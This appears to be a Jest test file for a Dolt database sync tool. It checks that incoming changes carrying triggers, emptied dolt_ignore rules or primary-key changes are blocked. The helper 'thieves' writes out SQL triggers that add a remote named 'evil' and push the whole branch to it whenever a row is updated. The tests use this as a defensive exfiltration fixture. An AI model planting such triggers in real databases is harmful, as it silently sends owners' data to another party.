import { cpSync, existsSync, rmSync } from 'node:fs';
import { describe, expect, test } from '@jest/globals';
import { remoteHead } from '../../helpers/database.ts';
import { type Mailbox, mailbox } from '../../helpers/mailbox.ts';
import { type TempFolder, tempFolder } from '../../helpers/temp-folder.ts';

/**
 * Triggers that push our whole branch to another address as soon as a row of ours is updated (measured, Dolt 2.3.0).
 */
function thieves(folder: TempFolder): string[] {
  const on = 'BEFORE UPDATE ON items FOR EACH ROW';
  return [
    `CREATE TRIGGER opens ${on} CALL DOLT_REMOTE('add', 'evil', 'file://${folder.file('evil')}')`,
    `CREATE TRIGGER sends ${on} CALL DOLT_PUSH('evil', 'main')`,
  ];
}

async function nothingWasStolen(folder: TempFolder, box: Mailbox): Promise<void> {
  expect(existsSync(folder.file('evil'))).toBe(false);
  expect(await box.south.rows("SELECT name FROM dolt_remotes WHERE name = 'evil'")).toEqual([]);
}

describe('a trigger that pushes to another server', () => {
  test('fires on an update of a row, as the tests below assume', async () => {
    await using folder = await tempFolder();
    const box = await mailbox(folder);
    await box.keep(...thieves(folder));
    await box.south.sql("UPDATE items SET title = 'x' WHERE id = 100");
    expect(await remoteHead(`file://${folder.file('evil')}`, folder.file('look', 'c'))).toBe(await box.south.head());
  });

  test('is blocked by the check', async () => {
    await using folder = await tempFolder();
    const box = await mailbox(folder);
    await box.send("UPDATE items SET owner = 'eve' WHERE id = 100", ...thieves(folder));
    await box.keep("UPDATE items SET title = 'south' WHERE id = 100");
    expect((await box.receive()).run('partner').failure?.code).toBe('peer-brings-code');
    await nothingWasStolen(folder, box);
  });

  test('does not fire when it is accepted and merged', async () => {
    await using folder = await tempFolder();
    const box = await mailbox(folder);
    await box.send("UPDATE items SET owner = 'eve' WHERE id = 100", ...thieves(folder));
    await box.keep("UPDATE items SET title = 'south' WHERE id = 100");
    expect((await box.receive({ accept: ['triggers'] })).run('partner').failure).toBeNull();
    expect(await box.south.rows('SELECT title, owner FROM items WHERE id = 100')).toEqual([
      { title: 'south', owner: 'eve' },
    ]);
    await nothingWasStolen(folder, box);
  });
});

describe('an emptied dolt_ignore', () => {
  const secret = [
    'CREATE TABLE private_notes (id INT PRIMARY KEY, text VARCHAR(40))',
    "INSERT INTO private_notes VALUES (1, 'secret')",
  ];
  const seed = ["INSERT INTO dolt_ignore VALUES ('private%', true)"];

  test('is blocked, because private rows would be in the next commit', async () => {
    await using folder = await tempFolder();
    const box = await mailbox(folder, ...seed);
    await box.south.sql(...secret);
    await box.send('DELETE FROM dolt_ignore');
    expect((await box.receiveUnchanged()).run('partner').failure?.code).toBe('peer-changes-local-tables');
    await box.keep("INSERT INTO items VALUES (1, 'x', 'y')");
    expect(await box.south.rows("SELECT * FROM private_notes AS OF 'main'").catch(() => 'not committed')).toBe(
      'not committed',
    );
    expect(await box.south.rows('SELECT text FROM private_notes')).toEqual([{ text: 'secret' }]);
  });

  test('is accepted if we emptied ours too', async () => {
    await using folder = await tempFolder();
    const box = await mailbox(folder, ...seed);
    await box.send('DELETE FROM dolt_ignore');
    await box.keep('DELETE FROM dolt_ignore', "INSERT INTO items VALUES (1, 'x', 'y')");
    expect((await box.receive()).run('partner')).toMatchObject({ failure: null, verified: true });
  });
});

describe('the scope of the check', () => {
  const trigger = "CREATE TRIGGER t BEFORE INSERT ON items FOR EACH ROW SET NEW.title = 'x'";

  test.each([
    { what: 'status', test: { command: 'status' } },
    { what: 'a dry run', test: { options: { dryRun: true } } },
    { what: 'pull', test: { command: 'pull' } },
  ] as const)('includes $what, which reports blocked changes', async ({ test: receiving }) => {
    await using folder = await tempFolder();
    const box = await mailbox(folder);
    await box.send(trigger);
    expect((await box.receiveUnchanged(receiving)).run('partner')).toMatchObject({
      state: 'behind',
      failure: { code: 'peer-brings-code' },
    });
  });

  test('includes a head that is fetched again after a lost race', async () => {
    await using folder = await tempFolder();
    const box = await mailbox(folder);
    await box.keep("INSERT INTO items VALUES (1, 'one', 'sue')");
    const swap = (from: string, to: string): void => {
      rmSync(folder.file(to), { recursive: true, force: true });
      cpSync(folder.file(from), folder.file(to), { recursive: true });
    };
    swap('mailbox', 'before');
    await box.send(trigger);
    swap('mailbox', 'moved');
    swap('before', 'mailbox');
    let moved = false;
    const outcome = await box.receive({
      onEvent: ({ step }) => {
        if (step === 'pushing' && !moved) {
          swap('moved', 'mailbox');
          moved = true;
        }
      },
    });
    expect(outcome.run('partner')).toMatchObject({ attempts: 2, failure: { code: 'peer-brings-code' } });
    expect(await box.south.rows('SELECT name FROM dolt_schemas')).toEqual([]);
  });
});

test('a head with another primary key changes a table with uncommitted rows', async () => {
  await using folder = await tempFolder();
  const box = await mailbox(folder, 'CREATE TABLE small (id INT PRIMARY KEY, n INT NOT NULL)');
  await box.send('ALTER TABLE small DROP PRIMARY KEY', 'ALTER TABLE small ADD PRIMARY KEY (n)');
  await box.south.sql('INSERT INTO small VALUES (1, 1)');
  const { failure } = (await box.receiveUnchanged({ options: { dirty: ['small'] } })).run('partner');
  expect(failure).toMatchObject({ code: 'uncommitted-changes', message: expect.stringContaining('small') });
});
